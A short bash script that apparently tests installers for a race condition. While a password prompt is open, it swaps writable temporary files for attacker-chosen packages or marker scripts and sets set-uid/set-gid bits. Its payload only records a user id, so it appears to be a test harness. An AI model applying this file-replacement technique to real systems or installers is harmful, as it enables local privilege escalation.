#!/bin/bash
# watcher.sh PROMPT FOLDER MARKER [ZIP]: a process of the installing user, as malware would be.
# Once the password prompt is open (the file PROMPT exists), it rewrites every file it may write
# below the user's temporary folder FOLDER: a package (*.zip) becomes ZIP when one is given,
# anything else a script that adds the id of the user who runs it to MARKER, and each gets the
# set-uid and set-gid bits and mode 777. It gives up after 30 seconds.
set -uo pipefail
for _ in {1..600}; do
  [ -e "$1" ] && break
  /bin/sleep 0.05
done
/usr/bin/find "$2" -type f -writable -print0 | while IFS= read -r -d '' file; do
  case $file in
    *.zip) [ -z "${4:-}" ] || /bin/cp -- "$4" "$file" ;;
    *) printf '#!/bin/sh\n/usr/bin/id -u >>%q\n' "$3" >"$file" ;;
  esac
  /bin/chmod 6777 -- "$file"
done
